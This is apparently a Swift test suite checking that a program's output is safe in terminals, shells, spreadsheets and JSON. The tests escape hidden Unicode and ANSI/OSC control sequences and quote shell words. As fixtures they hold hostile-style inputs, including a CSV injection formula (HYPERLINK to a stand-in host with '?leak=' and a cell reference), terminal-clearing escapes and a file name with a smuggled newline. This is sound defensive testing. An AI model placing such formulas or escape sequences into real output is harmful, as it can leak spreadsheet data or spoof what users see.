import Foundation
import Testing

@testable import TalkModel

/// What we write is read by terminals and spreadsheets: nothing from the data may act there.
@Suite struct OutputSafetyTests {
    @Test(arguments: [
        ("\u{1B}[2J", "\\u{1B}[2J"), ("a\rb", "a\\rb"), ("a\nb", "a\\nb"), ("\t", "\\t"),
        ("\u{1B}]0;title\u{7}", "\\u{1B}]0;title\\u{7}"), ("李\u{202E}伟", "李\\u{202E}伟"),
        ("p\u{200B}li", "p\\u{200B}li"),
        ("\u{9B}31m", "\\u{9B}31m"), ("x\u{2028}y", "x\\u{2028}y"), ("tag\u{E0041}", "tag\\u{E0041}"),
        ("\u{FEFF}", "\\u{FEFF}"),
        ("江东省委 “一把手”", "江东省委 “一把手”"), ("禰\u{E0100}", "禰\u{E0100}"), ("", ""),
        // What shows nothing (helper-156: a name of fillers showed as blanks); a mark is shown.
        ("王\u{3164}伟", "王\\u{3164}伟"), ("王\u{115F}伟", "王\\u{115F}伟"), ("王\u{FFA0}伟", "王\\u{FFA0}伟"),
        ("王\u{2800}伟", "王\\u{2800}伟"), ("e\u{34F}\u{301}", "e\\u{34F}\u{301}"), ("ᠠ\u{180B}", "ᠠ\u{180B}"),
        ("ㄱ、。", "ㄱ、。"),
    ])
    func hiddenCharactersAreShownEscaped(_ text: String, _ shown: String) {
        #expect(VisibleText.escaped(text) == shown)
        #expect(!VisibleText.containsHidden(VisibleText.escaped(text)))
    }

    /// A word a message gives to paste is read back by the shell as the very text, hidden
    /// characters too (helper-192: `'n\nl.db'`, shown inside single quotes, named another file),
    /// and shows nothing hidden itself.
    @Test(arguments: [
        "n\nl.db", "a\tb", "esc\u{1B}[2J.db", "李\u{202E}伟.db", "it's\n\\.db", "-x\r", "p\u{200B}li", "tag\u{E0041}",
        "my store.db", "it's.db", "台账.xlsx",
    ])
    func aPastedWordIsTheTextItself(_ text: String) throws {
        let word = shellWord(text)
        #expect(!VisibleText.containsHidden(word), "\(word)")
        let bash = Process()
        bash.executableURL = URL(fileURLWithPath: "/bin/bash")
        bash.arguments = ["-c", "printf %s " + word]
        let output = Pipe()
        bash.standardOutput = output
        try bash.run()
        let read = output.fileHandleForReading.readDataToEndOfFile()
        bash.waitUntilExit()
        #expect(String(decoding: read, as: UTF8.self) == text, "\(word)")
    }

    /// User text is quoted so its quotes end where it does: a quote or backslash of its own is
    /// escaped (`a"b` is never `"a"b"`, the text `\n` never the line break's escape), and
    /// nothing hidden survives. In Chinese quotation marks, the closing `”` is what is escaped.
    @Test(arguments: [
        ("a\"b", #""a\"b""#, "“a\"b”"), (#"a\b"#, #""a\\b""#, #"“a\\b”"#),
        ("a\nb", #""a\nb""#, #"“a\nb”"#), (#"a\nb"#, #""a\\nb""#, #"“a\\nb”"#),
        ("\"\u{1B}[2J\"", #""\"\u{1B}[2J\"""#, #"“"\u{1B}[2J"”"#), ("台”账", #""台”账""#, #"“台\”账”"#),
        ("江东省委", #""江东省委""#, "“江东省委”"),
    ])
    func quotedTextIsUnambiguous(_ text: String, _ quoted: String, _ quotedInChinese: String) {
        #expect(text.quoted == quoted)
        #expect(text.quotedInChinese == quotedInChinese)
        #expect(!VisibleText.containsHidden(text.quoted) && !VisibleText.containsHidden(text.quotedInChinese))
    }

    /// The quick look at bytes never misses a hidden scalar: checked over every scalar of the BMP
    /// and the supplementary planes that hold format characters.
    @Test func theByteLookNeverMissesAHiddenScalar() {
        let ranges: [ClosedRange<UInt32>] = [0...0xD7FF, 0xE000...0xFFFF, 0x10000...0x1FFFF, 0xE0000...0xE01EF]
        for range in ranges {
            for value in range {
                guard let scalar = Unicode.Scalar(value), VisibleText.isHidden(scalar) else { continue }
                #expect(VisibleText.containsHidden(String(scalar)), "U+\(String(value, radix: 16))")
            }
        }
    }

    /// A hidden scalar is found among Chinese text's punctuation, whose bytes look like one's, and
    /// nothing else is.
    @Test func theOnePassFindsEveryHiddenScalarAndNothingElse() {
        let ranges: [ClosedRange<UInt32>] = [0...0xD7FF, 0xE000...0xFFFF, 0x10000...0x1FFFF, 0xE0000...0xE01EF]
        for range in ranges {
            for value in range {
                guard let scalar = Unicode.Scalar(value) else { continue }
                let text = "说明，“\(scalar)”…（完）"
                let hidden = VisibleText.isHidden(scalar)
                #expect(VisibleText.containsHidden(text) == hidden, "U+\(String(value, radix: 16))")
                #expect(
                    VisibleText.containsHidden(text, exceptLineBreaks: true) == (hidden && scalar != "\n"),
                    "U+\(String(value, radix: 16))")
            }
        }
    }

    /// Printable ASCII is passed over eight bytes at a time: a hidden scalar, or any byte that is
    /// not printable ASCII, at any place in a run of it, before, inside or after a word of eight,
    /// is still looked at.
    @Test func aHiddenScalarInARunOfASCIIIsFoundWhereverItStands() {
        let hidden: [Unicode.Scalar] = [
            "\u{1B}", "\u{7F}", "\u{0}", "\u{1F}", "\u{85}", "\u{200B}", "\u{202E}", "\u{FEFF}",
        ]
        for length in 0...24 {
            let run = String(repeating: "a 1~", count: 7).prefix(length)
            #expect(!VisibleText.containsHidden(String(run)))
            for place in 0...length {
                for scalar in hidden {
                    let text = run.prefix(place) + String(scalar) + run.dropFirst(place)
                    #expect(
                        VisibleText.containsHidden(String(text)), "U+\(String(scalar.value, radix: 16)) at \(place)")
                }
                let chinese = run.prefix(place) + "江东" + run.dropFirst(place)
                #expect(!VisibleText.containsHidden(String(chinese)))
            }
        }
    }

    /// The test of eight bytes at once against every byte, at every place of a word of spaces.
    @Test func aWordIsPrintableASCIIOnlyWhenEachOfItsBytesIs() {
        for byte in UInt64(0)...0xFF {
            for place in 0..<8 {
                let word = 0x2020_2020_2020_2020 & ~(0xFF << (place * 8)) | byte << (place * 8)
                #expect(VisibleText.isPrintableASCII(word) == (0x20...0x7E).contains(byte), "\(byte) at \(place)")
            }
        }
    }

    /// The blocks settled without Unicode's tables hold no Cc, Cf, Zl or Zp scalar.
    @Test func theQuickBlocksHoldNoHiddenScalar() {
        for range: ClosedRange<UInt32> in [
            0x20...0x7E, 0x2010...0x2027, 0x202F...0x205F, 0x3000...0x3163, 0x3165...0x9FFF, 0xFF00...0xFF9F,
            0xFFA1...0xFFEF,
        ] {
            for value in range {
                let properties = Unicode.Scalar(value)!.properties
                #expect(![.control, .format, .lineSeparator, .paragraphSeparator].contains(properties.generalCategory))
                #expect(!properties.isDefaultIgnorableCodePoint, "U+\(String(value, radix: 16))")
            }
        }
    }

    @Test func lineBreaksAndOurOwnColoursMayBeKept() {
        #expect(VisibleText.escaped("a\nb", keepingLineBreaks: true) == "a\nb")
        let coloured = "\u{1B}[31m违规\u{1B}[0m"
        #expect(VisibleText.escaped(coloured, keepingColour: true) == coloured)
        // Any other sequence is escaped even then: conceal (8), cursor moves, OSC.
        #expect(VisibleText.escaped("\u{1B}[8mx", keepingColour: true) == "\\u{1B}[8mx")
        #expect(VisibleText.escaped("\u{1B}[2J", keepingColour: true) == "\\u{1B}[2J")
        #expect(VisibleText.escaped("\u{1B}]8;;http://x\u{7}", keepingColour: true) == "\\u{1B}]8;;http://x\\u{7}")
    }

    /// OWASP's CSV injection: a cell Excel or WPS would run gets an apostrophe; a number stays a number.
    @Test(arguments: [
        ("=HYPERLINK(\"http://x/?leak=\"&A2,\"清溪县委\")", "'=HYPERLINK(\"http://x/?leak=\"&A2,\"清溪县委\")"),
        ("+1", "+1"), ("+cmd", "'+cmd"), ("-12", "-12"), ("-1.5", "-1.5"), ("-", "'-"), ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("'abc", "''abc"), ("'=x", "''=x"), ("1.5", "1.5"), ("1.", "1."),
        ("--1", "'--1"),
        ("江东省委", "江东省委"), ("a=b", "a=b"), ("", ""),
    ])
    func csvCellsAreMadeInertAndReadBackExactly(_ cell: String, _ written: String) throws {
        #expect(CSV.inert(cell) == written)
        #expect(CSV.imported(CSV.inert(cell)) == cell)
        let rows = try CSV.rows(CSV.line(["a", cell, "b"]))
        #expect(rows.first?.cells == ["a", cell, "b"])
    }

    /// A comma, quote or line break that a combining mark follows is one character with it, but
    /// still a separator, a quote or a line break to a reader of CSV: quoted and doubled all the same.
    @Test(arguments: [",\u{301}x", "a\"\u{301}b", "\"\u{20DD}", "x\r\u{301}", "\n\u{301}", "江东,\u{301}\"\u{301}"])
    func csvQuotesWhatAReaderSplitsOn(_ cell: String) throws {
        let line = CSV.line([cell, "b"])
        #expect(line.hasPrefix("\""))
        let rows = try CSV.rows(line)
        #expect(rows.count == 1)
        #expect(rows.first?.cells == [cell, "b"])
    }

    /// JSON escapes every hidden scalar, and reading gives the text back.
    @Test func jsonEscapesHiddenCharactersAndReadsThemBack() throws {
        let text = "a\u{1B}[2J\u{202E}\u{9B}\u{E0041}\u{2029}b “一把手”"
        let line = JSONWriter.line(.string(text))
        #expect(!VisibleText.containsHidden(line))
        #expect(line.contains("\\u202e") && line.contains("\\udb40\\udc41"))
        #expect(try JSONReader.parse(Array(line.utf8)) == .string(text))
    }
}
